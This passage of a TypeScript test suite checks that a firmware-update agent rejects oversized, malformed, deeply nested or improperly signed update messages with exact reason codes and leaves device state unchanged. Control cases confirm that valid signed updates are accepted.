    cmd('rollback with no previous version in the other slot', 'COMMAND_NOT_APPLICABLE', () => signedCommand(command({ command: 'rollback' }))),
    cmd('70 000 bytes', 'TOO_LARGE', () => utf8(`{"x":"${'y'.repeat(70_000)}"}`)),
    cmd('invalid UTF-8', 'MALFORMED_JSON', () => Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d])),
    cmd('100 000-deep nesting', 'MALFORMED_ENVELOPE', () => utf8(deepObject(100_000)), { config: withLimit(1_048_576) }),
  ],
};

const ALL = Object.values(CASES).flat();
const label = (c: Case): string => `${c.topic === COMMANDS ? 'command' : 'announcement'}: ${c.name} -> ${c.reason}`;

describe('bad input through the in-process agent: exact reason, nothing changed', () => {
  let h: Harness | undefined;
  afterEach(async () => {
    await h?.close();
    h = undefined;
  });
  afterAll(() => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).allowDowngrade).toBeUndefined();
  });

  it(`has at least 60 named cases, with unique names (${ALL.length})`, () => {
    expect(ALL.length).toBeGreaterThanOrEqual(60);
    expect(new Set(ALL.map(label)).size).toBe(ALL.length);
    for (const c of ALL) expect(REJECT_REASONS).toContain(c.reason);
  });

  for (const [group, cases] of Object.entries(CASES)) {
    describe(group, () => {
      for (const c of cases) {
        it(label(c), async () => {
          h = await harness(c.config);
          await c.setup?.(h);
          const bytes = c.bytes();
          const before = { slots: h.slotsDigest(), events: h.outbox().length, decisions: h.store.decisions(1000).length };
          expect(h.store.current()).toBeNull();

          const d = c.topic === COMMANDS ? await h.agent.handleCommand(c.topic, bytes) : h.agent.handleAnnouncement(c.topic, bytes);
          await h.agent.idle();

          expect(d?.kind, JSON.stringify(d)).toBe('reject');
          if (d?.kind !== 'reject') return;
          expect(d.reason, d.message).toBe(c.reason);
          expect(d.message.length).toBeGreaterThan(3);
          // Nothing changed: no update record, slots and bootloader identical, nothing downloaded.
          expect(h.store.current()).toBeNull();
          expect(h.slotsDigest()).toBe(before.slots);
          expect(h.downloads()).toEqual([]);
          // Exactly one new event, the refusal, with the same reason; and a decision row.
          const events = h.outbox().slice(before.events);
          expect(events).toHaveLength(1);
          expect(events[0]).toMatchObject({ type: 'rejected', result: 'rejected', reason: c.reason, deviceId: 'dev-0001' });
          const decisions = h.store.decisions(1000);
          expect(decisions.length).toBe(before.decisions + 1);
          expect(decisions[0]).toMatchObject({ decision: 'rejected', reason: c.reason, topic: c.topic });
          expect(({} as Record<string, unknown>).polluted).toBeUndefined();
        });
      }
    });
  }

  describe('controls: the harness does accept what is valid', () => {
    it('a valid announcement is accepted (so the refusals above are not an artefact of the setup)', async () => {
      h = await harness();
      await h.agent.stop(); // records the acceptance; runs no download (that needs the network)
      const d = h.agent.handleAnnouncement(STABLE, signedAnnouncement(announcement()));
      expect(d?.kind).toBe('accept');
      expect(h.store.current()).toMatchObject({ updateId: 'acme-gw-2.1.0', state: 'accepted', toVersion: '2.1.0' });
    });

    it('a valid announcement on the two-signature channel with two trusted signatures is accepted', async () => {
      h = await harness();
      await h.agent.stop();
      const d = h.agent.handleAnnouncement(CRITICAL, signedAnnouncement(announcement({ channel: 'critical' }), [fleetKey, secondKey]));
      expect(d?.kind).toBe('accept');
    });

    it('a command with two trusted signatures is accepted by a device on a two-signature channel', async () => {
      h = await harness(defaultCommandThreshold);
      const d = await h.agent.handleCommand(COMMANDS, signedCommand(command(), [fleetKey, secondKey]));
      expect(d?.kind, JSON.stringify(d)).toBe('accept');
    });

    it('a valid announcement signed by the revoked key and a trusted key is accepted on stable (the revoked signature is ignored)', async () => {
      h = await harness();
      await h.agent.stop();
      expect(h.agent.handleAnnouncement(STABLE, signedAnnouncement(announcement(), [revokedKey, fleetKey]))?.kind).toBe('accept');
    });

    it('the exact bytes of a refused message again are a quiet DUPLICATE, not a second event', async () => {
      h = await harness();
      const bytes = signedAnnouncement(announcement({ version: '1.0.0' }));
      expect(h.agent.handleAnnouncement(STABLE, bytes)).toMatchObject({ kind: 'reject', reason: 'NOT_NEWER' });
      const n = h.outbox().length;
      expect(h.agent.handleAnnouncement(STABLE, bytes)).toMatchObject({ kind: 'ignore', why: 'DUPLICATE' });
      expect(h.outbox()).toHaveLength(n);
    });

    it('expiry within the skew allowance is still valid (the boundary of the EXPIRED case)', async () => {
      h = await harness();
      await h.agent.stop();
      expect(h.agent.handleAnnouncement(STABLE, signedAnnouncement(announcement({ expiresAt: iso(-299) })))?.kind).toBe('accept');
    });
  });
});
